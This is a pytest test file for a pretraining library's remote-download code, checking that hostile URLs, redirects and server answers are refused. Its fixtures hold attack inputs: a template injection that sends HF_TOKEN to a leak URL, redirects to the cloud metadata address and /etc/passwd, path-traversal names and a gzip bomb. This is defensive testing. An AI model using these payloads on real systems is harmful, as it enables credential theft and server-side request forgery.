"""URLs, redirects and answers of servers that mean harm."""

from __future__ import annotations

import gzip
import hashlib
import json
import re
import resource
import subprocess
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from gpt_pretrain.data.datamodule import TextDataModule
from gpt_pretrain.data.private_cache import TAG
from gpt_pretrain.data.remote import web
from gpt_pretrain.data.remote.download import download, download_name, find_download
from gpt_pretrain.data.remote.remote_files import RemoteFiles
from gpt_pretrain.data.remote.web import check_redirect
from gpt_pretrain.errors import UserError
from gpt_pretrain.system.urls import check_url
from tests.helpers.data_settings import data_settings
from tests.helpers.hostile_files import SMALL
from tests.helpers.hostile_server import Answer, Stranger, remote_settings, taken
from tests.helpers.made_shards import BYTE, random_documents, write_shards

Script = Callable[..., "subprocess.CompletedProcess[str]"]


# Schemes, chains and options


REFERENCE = {
    "version": 1,
    "templates": {"u": "{{x}}"},
    "refs": {"d/manifest.json": ["URL/leak?{{u.__globals__[os].environ[HF_TOKEN]}}", 0, 100]},
}


def test_a_url_that_names_a_list_of_references_is_not_opened(
    script: Script, stranger: Stranger, monkeypatch: pytest.MonkeyPatch
) -> None:
    stranger.files["/x.json"] = json.dumps(REFERENCE).replace("URL", stranger.url).encode()
    monkeypatch.setenv("HF_TOKEN", "hf_SECRETTOKEN")
    done = script("train.py", *SMALL, "data=shards", f"data.path=reference://d::{stranger.url}/x.json", "plan=true")
    assert done.returncode == 2
    assert "a URL with :: leads through another file system" in done.stderr
    assert stranger.asked == []


@pytest.mark.parametrize("chain", ["simplecache", "filecache", "blockcache", "zip", "dir", "reference"])
def test_a_chain_of_file_systems_is_refused_also_in_options(stranger: Stranger, tmp_path: Path, chain: str) -> None:
    stranger.files["/corp/.bash_login"] = b"touch PWNED"
    keeps = {"cache_storage": str(tmp_path), "same_names": True}
    with pytest.raises(UserError, match="::"):
        RemoteFiles(f"{chain}::{stranger.url}/corp", remote_settings(options={chain: keeps}))
    for options in ({chain: keeps}, {"protocol": chain}, {"protocol": chain, **keeps}, {"target_protocol": "http"}, {"fo": "x"}):
        with pytest.raises(UserError, match=r"^data\.remote\.options\.\w+: .*not passed on"):
            RemoteFiles(f"{stranger.url}/corp", remote_settings(options=options))
    assert stranger.asked == []
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("setting", ["path", "url", "sources"])
def test_every_setting_that_takes_a_url_has_the_same_list(tmp_path: Path, setting: str) -> None:
    url = "ftp://127.0.0.1/x"
    changes: dict[str, dict[str, Any]] = {
        "path": {"name": "shards", "path": url},
        "url": {"name": "text", "path": None, "url": url},
        "sources": {"name": "mixture", "path": None, "sources": [_source(url)]},
    }
    data = TextDataModule(data_settings(tmp_path, remote=remote_settings(), **changes[setting]), BYTE, context_length=8, seed=1)
    with pytest.raises(UserError, match=r"ftp:// are not opened\. Allowed are .*https://"):
        data.prepare_data()


def _source(path: str) -> Any:
    from gpt_pretrain.config.schema import SourceSettings

    return SourceSettings(path=path, weight=1.0)


def test_a_manifest_names_only_files_beside_it(stranger: Stranger, tmp_path: Path) -> None:
    names = [
        "../x.bin",
        "a/x.bin",
        "..",
        ".",
        "",
        ".bash_login",
        "x.bin?y",
        "x.bin#y",
        "%2e%2e%2fx.bin",
        "http:x",
        "whole",
        "x\n",
        "x" * 300,
    ]
    folder = write_shards(
        tmp_path / "corpus", train=random_documents(20, seed=1), val=random_documents(20, seed=2), shard_tokens=5000
    )
    manifest = json.loads((folder / "manifest.json").read_text())
    for name in names:
        manifest["parts"]["train"]["shards"][0]["file"] = name
        stranger.files["/corp/manifest.json"] = json.dumps(manifest).encode()
        data = data_settings(tmp_path / "cache", name="shards", path=f"{stranger.url}/corp", remote=remote_settings())
        with pytest.raises(UserError, match=r"manifest\.json is damaged"):
            TextDataModule(data, BYTE, context_length=8, seed=1).prepare_data()
    assert set(stranger.asked) == {"/corp/manifest.json"}


# Redirects and answers


@pytest.mark.parametrize(
    ("origin", "target", "allowed"),
    [
        ("http://93.184.216.34/a", "http://93.184.216.35/a", True),
        ("http://93.184.216.34/a", "https://93.184.216.35/a", True),
        ("https://93.184.216.34/a", "http://93.184.216.34/a", False),
        ("http://93.184.216.34/a", "http://127.0.0.1/a", False),
        ("http://93.184.216.34/a", "http://[::1]/a", False),
        ("http://93.184.216.34/a", "http://[::ffff:127.0.0.1]/a", False),
        ("http://93.184.216.34/a", "http://0.0.0.0/a", False),
        ("http://93.184.216.34/a", "http://2130706433/a", False),
        ("http://93.184.216.34/a", "http://169.254.169.254/latest/meta-data", False),
        ("http://93.184.216.34/a", "http://10.0.0.1/a", False),
        ("http://93.184.216.34/a", "http://localhost/a", False),
        ("http://93.184.216.34/a", "http://127%2e0.0.1/a", False),
        ("http://93.184.216.34/a", "http://\uff11\uff12\uff17.0.0.1/a", False),
        ("http://93.184.216.34/a", "http://93.184.216.35\\.internal/a", False),
        ("http://93.184.216.34/a", "http://[::1/a", False),
        ("http://93.184.216.34/a", "http:///a", False),
        ("http://93.184.216.34/a", "file:///etc/passwd", False),
        ("http://93.184.216.34/a", "ftp://93.184.216.34/a", False),
        ("http://10.0.0.1/a", "http://192.168.1.1/a", True),
        ("http://10.0.0.1/a", "http://127.0.0.1/a", False),
        ("http://127.0.0.1/a", "http://127.0.0.1:1/a", True),
        ("http://127.0.0.1/a", "http://localhost/a", True),
        ("http://127.0.0.1/a", "http://169.254.169.254/a", False),
    ],
)
def test_a_redirect_leads_neither_to_a_weaker_protocol_nor_inwards(origin: str, target: str, allowed: bool) -> None:
    if allowed:
        check_redirect(origin, target)
        return
    with pytest.raises(
        UserError, match=rf"^{re.escape(origin)} redirects to {re.escape(target)}, an address .* It was not followed"
    ):
        check_redirect(origin, target)


@pytest.mark.parametrize("target", ["http://169.254.169.254/x", "file:///etc/passwd", "ftp://127.0.0.1/x"])
def test_downloads_and_shards_do_not_follow_a_redirect_to_elsewhere(stranger: Stranger, tmp_path: Path, target: str) -> None:
    stranger.redirects = {"/t.txt": target, "/corp/manifest.json": target}
    with pytest.raises(UserError, match="It was not followed"):
        download(f"{stranger.url}/t.txt", sha256=None, cache_dir=tmp_path)
    started = time.monotonic()
    with pytest.raises(UserError):
        RemoteFiles(f"{stranger.url}/corp", remote_settings(timeout=20.0)).read("manifest.json", 0, 10)
    assert time.monotonic() - started < 10, "refused, and not waited for"


def test_a_redirect_on_the_same_machine_is_followed(stranger: Stranger, tmp_path: Path) -> None:
    stranger.redirects = {"/t.txt": "/u.txt", "/corp/x.bin": f"{stranger.url}/corp/y.bin"}
    stranger.files = {"/u.txt": b"some text", "/corp/y.bin": b"0123456789"}
    assert download(f"{stranger.url}/t.txt", sha256=None, cache_dir=tmp_path).read_bytes() == b"some text"
    assert RemoteFiles(f"{stranger.url}/corp", remote_settings()).read("x.bin", 2, 3) == b"234"


def test_the_body_of_a_redirect_is_not_read(stranger: Stranger, tmp_path: Path) -> None:
    sent: list[int] = []
    stranger.answers = {
        "/t.txt": lambda answer: sent.append(answer.redirect_without_end("/u.txt")),
        "/corp/x.bin": lambda answer: sent.append(answer.redirect_without_end("/u.txt")),
    }
    stranger.files["/u.txt"] = b"some text"
    assert download(f"{stranger.url}/t.txt", sha256=None, cache_dir=tmp_path).read_bytes() == b"some text"
    assert RemoteFiles(f"{stranger.url}/corp", remote_settings())._read_range("x.bin", 0, 4) == b"some"
    assert taken(sent, answers=2) < 50


def test_an_answer_without_end_is_cut_off(stranger: Stranger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sent = []

    def endless(answer: Answer) -> None:
        if answer.command == "HEAD":
            answer.reply(200, length=1000, headers={"Accept-Ranges": "bytes"})
        else:
            answer.reply_without_end()
            sent.append(True)

    stranger.answers = {"/t.txt": endless, "/corp/x.bin": endless}
    with pytest.raises(UserError, match="ignores the Range header"):
        RemoteFiles(f"{stranger.url}/corp", remote_settings()).read("x.bin", 0, 1000)
    monkeypatch.setattr(web, "MAX_DOWNLOAD_BYTES", 5_000_000)
    with pytest.raises(UserError, match="the download exceeded"):
        download(f"{stranger.url}/t.txt", sha256=None, cache_dir=tmp_path)
    assert [path.name for path in (tmp_path / "downloads").iterdir()] == [TAG]


def test_a_page_of_a_folder_is_read_in_linear_time(stranger: Stranger) -> None:
    page = b"<a href='x.bin'>x</a> <A HREF=\"/corp/y%20z.bin\"> <a href='../up.bin'> <a href='http://other/o.bin'> <a href='.hidden'>"
    stranger.files["/corp/"] = page + b"<a " + b" " * 1_000_000 + b"<a href=" * 100_000 + b"http://" * 100_000
    started = time.monotonic()
    assert RemoteFiles(f"{stranger.url}/corp", remote_settings()).names() == ["x.bin", "y z.bin"]
    assert time.monotonic() - started < 5


def test_a_compressed_answer_is_not_unpacked(stranger: Stranger) -> None:
    bomb = gzip.compress(bytes(200_000_000))
    stranger.answers["/corp/x.bin"] = lambda answer: answer.reply(200, bomb, headers={"Content-Encoding": "gzip"})
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(UserError):
        RemoteFiles(f"{stranger.url}/corp", remote_settings()).read("x.bin", 0, 1000)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000, "in KB"


def trickle(answer: Answer, beginning: bytes, end: bytes = b"") -> None:
    """Send bytes so slowly that no time limit on a single one ends it, for ten seconds."""
    with suppress(OSError):
        answer.wfile.write(beginning)
        for _ in range(200):
            time.sleep(0.05)
            answer.wfile.write(b"x")
        answer.wfile.write(end)


@pytest.mark.parametrize(
    ("beginning", "end"),
    [
        (b"HTTP/1.1 200 OK\r\nContent-Length: 200\r\n\r\n", b""),
        (b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nX-Slow: ", b"\r\n\r\n"),
        (b"HTTP/1.1 302 Found\r\nLocation: /slow.txt\r\nContent-Length: 0\r\nX-Slow: ", b"\r\n\r\n"),
    ],
    ids=["body", "headers", "redirect"],
)
def test_a_download_that_trickles_is_ended(
    stranger: Stranger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, beginning: bytes, end: bytes
) -> None:
    stranger.answers = {"/t.txt": lambda answer: trickle(answer, beginning, end)}
    monkeypatch.setattr(web, "MAX_DOWNLOAD_SECONDS", 0.3)
    started = time.monotonic()
    with pytest.raises(UserError, match=r"the download exceeded .* or"):
        download(f"{stranger.url}/t.txt", sha256=None, cache_dir=tmp_path)
    assert time.monotonic() - started < 5
    assert [path.name for path in (tmp_path / "downloads").iterdir()] == [TAG]


def test_downloads_are_named_after_the_whole_url_without_its_secrets(stranger: Stranger, tmp_path: Path) -> None:
    stranger.files["/a/t.txt"], stranger.files["/b/t.txt"] = b"a", b"b"
    assert download(f"{stranger.url}/a/t.txt", sha256=None, cache_dir=tmp_path).read_bytes() == b"a"
    assert download(f"{stranger.url}/b/t.txt", sha256=None, cache_dir=tmp_path).read_bytes() == b"b"
    plain = download_name("https://host/t.txt")
    for url in (
        "https://user:PASSWORD1@host/t.txt",
        "https://host/t.txt?X-Amz-Signature=SIGNATURE1&X-Amz-Date=1",
        "https://host/t.txt?sv=2024-11-04&se=2027-01-01&sr=b&sp=r&sig=S",
    ):
        assert download_name(url) == plain
    assert download_name("https://host/t.txt?id=1") != download_name("https://host/t.txt?id=2")
    assert re.fullmatch(r"[0-9a-f]{16}-t\.txt", download_name("https://host/t.txt?id=PASSWORD1"))
    assert re.fullmatch(r"[0-9a-f]{16}-[\w.-]+", download_name("https://host/..%2f\x1b[2J?"))


def test_a_download_of_an_earlier_version_is_used_if_its_checksum_is_right(tmp_path: Path) -> None:
    (tmp_path / "texts").mkdir()
    (tmp_path / "texts" / "t.txt").write_bytes(b"text")
    sha256 = hashlib.sha256(b"text").hexdigest()
    assert download("http://127.0.0.1:9/t.txt", sha256=sha256, cache_dir=tmp_path) == tmp_path / "texts" / "t.txt"
    assert find_download("http://127.0.0.1:9/t.txt", cache_dir=tmp_path) is None, "it may be from another URL"


@pytest.mark.parametrize("url", ["https://example.org/a::file:///etc/passwd", "s3://bucket/a::s3://bucket/b"])
def test_a_chain_is_refused_also_if_its_first_scheme_is_allowed(url: str) -> None:
    with pytest.raises(UserError, match="leads through another file system"):
        check_url(url, setting="data.url")
